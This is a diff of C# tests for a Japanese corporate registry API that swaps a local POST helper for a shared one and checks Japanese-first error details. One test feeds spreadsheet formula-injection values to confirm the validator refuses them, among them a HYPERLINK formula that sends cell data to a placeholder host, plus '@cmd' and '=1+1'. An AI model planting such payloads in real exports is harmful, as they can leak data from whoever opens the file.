@@ -1,5 +1,4 @@
 using System.Net;
-using System.Net.Http.Json;
 using System.Text.Json;
 using Renkei.Hosting.Storage;
 using Renkei.Numbers;
@@ -11,13 +10,6 @@ namespace Renkei.Registry.Tests.Corporations;
 /// <summary>What the register's refusals tell an administrator: Japanese first, and which item of a batch and which field.</summary>
 public sealed class CorporationRefusalTests
 {
-    private static async Task<(HttpStatusCode Status, string Type, JsonElement Problem)> PostAsync(HttpClient admin, string path, object request)
-    {
-        using var response = await admin.PostAsJsonAsync(path, request);
-        var (status, problem) = await Publication.ProblemAsync(response);
-        return (status, problem.GetProperty("type").GetString()!, problem);
-    }
-
     private static void JapaneseFirst(string? text) =>
         Assert.True(text is { Length: > 0 } && text[0] > '\u3000' && text.Contains(" / "), text);
 
@@ -37,7 +29,7 @@ public sealed class CorporationRefusalTests
         };
         var fresh = CorporateNumber.FromBase(0100_01_777777).Digits;
 
-        var (status, type, problem) = await PostAsync(admin, "/api/corporations/batch", new
+        var (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new
         {
             corporations = new[] { Company("一括甲株式会社", "イッカツコウ"), Assigned("一括乙株式会社", taken), Company("一括丙株式会社", "イッカツヘイ") },
         });
@@ -50,7 +42,7 @@ public sealed class CorporationRefusalTests
         Assert.Contains("corporations[1]", problem.GetProperty("detail").GetString());
 
         // Twice in one batch: the second is the one refused, and neither is written.
-        (status, type, problem) = await PostAsync(admin, "/api/corporations/batch", new
+        (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new
         {
             corporations = new[] { Assigned("一括丁株式会社", fresh), Company("一括戊株式会社", "イッカツボ"), Assigned("一括己株式会社", fresh) },
         });
@@ -58,7 +50,7 @@ public sealed class CorporationRefusalTests
         Assert.Equal("corporations[2].corporateNumber", SingleError(problem).Name);
 
         // One registration names the field alone; a number derived from a company legal number names that field.
-        (status, type, problem) = await PostAsync(admin, "/api/corporations", Assigned("単独株式会社", taken));
+        (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations", Assigned("単独株式会社", taken));
         Assert.Equal((HttpStatusCode.Conflict, "urn:renkei:problem:corporation-exists"), (status, type));
         Assert.Equal("corporateNumber", SingleError(problem).Name);
         JapaneseFirst(problem.GetProperty("detail").GetString());
@@ -67,7 +59,7 @@ public sealed class CorporationRefusalTests
             name = "会社法人等番号試験株式会社", furigana = "シケン", kind = "301", companyLegalNumber = "0100-01-888888",
             address = new { localGovernmentCode = "131059", streetNumber = "春日１丁目" },
         });
-        (status, type, problem) = await PostAsync(admin, "/api/corporations/batch", new
+        (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new
         {
             corporations = new[]
             {
@@ -92,7 +84,7 @@ public sealed class CorporationRefusalTests
         var admin = host.Client("corporations");
         async Task<JsonElement> Refused(string number, object change, HttpStatusCode expected, string slug)
         {
-            var (status, type, problem) = await PostAsync(admin, $"/api/corporations/{number}/changes", change);
+            var (status, type, problem) = await Publication.PostForProblemAsync(admin, $"/api/corporations/{number}/changes", change);
             Assert.Equal((expected, "urn:renkei:problem:" + slug), (status, type));
             JapaneseFirst(problem.GetProperty("detail").GetString());
             return problem;
@@ -134,19 +126,19 @@ public sealed class CorporationRefusalTests
         }
 
         // Full-width ＝ and ＋ fold to = and + (NFKC), as a clerk's input method types them.
-        Formula(await PostAsync(admin, "/api/corporations", new
+        Formula(await Publication.PostForProblemAsync(admin, "/api/corporations", new
         {
             name = "＝HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", furigana = "シケン", kind = "301", enName = "-2+3",
             address = new { localGovernmentCode = "131059", streetNumber = "＋1-1", enCityName = "@SUM(A1)" },
         }), "invalid-corporation", "name", "enName", "address.streetNumber", "address.enCityName");
-        Formula(await PostAsync(admin, "/api/corporations/batch", new { corporations = new[] { Company("=1+1", "シケン") } }),
+        Formula(await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new { corporations = new[] { Company("=1+1", "シケン") } }),
             "invalid-corporation", "corporations[0].name");
         Assert.Equal(0, (await Publication.GetAsync(host.Client(), $"/4/diff?id=sandbox&type=22&{AroundToday()}")).Count);
 
         var number = await RegisterAsync(admin, Company("数式試験株式会社", "スウシキシケン"));
-        Formula(await PostAsync(admin, $"/api/corporations/{number}/changes", new { process = "11", name = "新数式試験株式会社", furigana = "シン", changeCause = "=1+1" }),
+        Formula(await Publication.PostForProblemAsync(admin, $"/api/corporations/{number}/changes", new { process = "11", name = "新数式試験株式会社", furigana = "シン", changeCause = "=1+1" }),
             "invalid-change", "changeCause");
-        Formula(await PostAsync(admin, $"/api/corporations/{number}/changes", new { process = "13", address = new { addressOutside = "　@cmd" } }),
+        Formula(await Publication.PostForProblemAsync(admin, $"/api/corporations/{number}/changes", new { process = "13", address = new { addressOutside = "　@cmd" } }),
             "invalid-change", "address.addressOutside");
 
         // Only the first character counts: a name or cause holding -, = or + further in is published as before.
